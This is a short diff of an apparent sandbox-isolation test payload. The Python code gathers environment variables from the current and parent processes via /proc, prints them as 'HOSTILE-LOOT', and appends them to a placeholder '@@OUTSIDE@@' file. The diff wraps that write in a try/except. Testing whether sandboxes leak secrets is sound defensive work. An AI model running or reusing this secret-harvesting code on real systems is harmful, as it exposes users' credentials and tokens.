@@ -17,5 +17,8 @@ def _read(path):
 _loot = {"environ": dict(_eo.environ), "self": _read("/proc/self/environ"),
          "parent": _read(f"/proc/{_eo.getppid()}/environ")}
 print("HOSTILE-LOOT", _ej.dumps(_loot))
-with open("@@OUTSIDE@@/loot.jsonl", "a") as _fh:
-    _fh.write(_ej.dumps(_loot) + "\n")
+try:  # evidence for the test; unreachable inside a sandbox, which is fine
+    with open("@@OUTSIDE@@/loot.jsonl", "a") as _fh:
+        _fh.write(_ej.dumps(_loot) + "\n")
+except OSError:
+    pass
